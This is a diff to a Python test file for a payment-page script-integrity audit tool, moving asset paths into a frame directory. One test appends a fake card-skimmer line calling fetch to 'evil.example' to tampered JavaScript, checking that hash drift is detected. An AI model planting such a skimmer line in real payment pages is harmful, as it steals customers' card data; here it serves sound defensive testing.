@@ -16,7 +16,7 @@ from tests.support import LiveServer, providers_on
 def test_audit_passes_against_the_app_and_its_own_baseline(app_server):
     passed, report, snapshot = run_audit(app_server.url + "/pay", SHOP)
     assert passed, report
-    assert "[frame]" in report and "/static/js/frame.js" in report
+    assert "[frame]" in report and "/static/js/frame/frame.js" in report
     again, report, _ = run_audit(app_server.url + "/pay", SHOP, snapshot)
     assert again and "No drift" in report, report
 
@@ -29,12 +29,12 @@ def test_audit_fails_after_a_script_changes(sandbox_server, tmp_path):
     try:
         passed, report, baseline = run_audit(server.url + "/pay", SHOP)
         assert passed, report
-        tampered = static / "js" / "tokenize.js"
+        tampered = static / "js" / "frame" / "tokenize.js"
         tampered.write_text(tampered.read_text() + "\n// skimmer: fetch('https://evil.example', {body})\n")
         passed, report, _ = run_audit(server.url + "/pay", SHOP, baseline)
         assert not passed
-        assert "/static/js/tokenize.js does not match its SRI hash" in report
-        assert "DRIFT: [card form] script /static/js/tokenize.js changed" in report
+        assert "/static/js/frame/tokenize.js does not match its SRI hash" in report
+        assert "DRIFT: [card form] script /static/js/frame/tokenize.js changed" in report
     finally:
         server.stop()
 
@@ -53,7 +53,7 @@ def test_audit_cli_exit_codes(app_server, tmp_path):
     assert ok.returncode == 0, ok.stdout + ok.stderr
     assert "Result: PASS" in ok.stdout and baseline.exists()
     data = json.loads(baseline.read_text())
-    data["pages"]["card form"]["assets"]["/static/js/page.js"] = "sha384-old"
+    data["pages"]["card form"]["assets"]["/static/js/frame/page.js"] = "sha384-old"
     baseline.write_text(json.dumps(data))
     drifted = subprocess.run([sys.executable, "-m", "panless.cli", "audit", app_server.url + "/pay", "--parent", SHOP,
                               "--baseline", str(baseline)], capture_output=True, text=True, timeout=60)
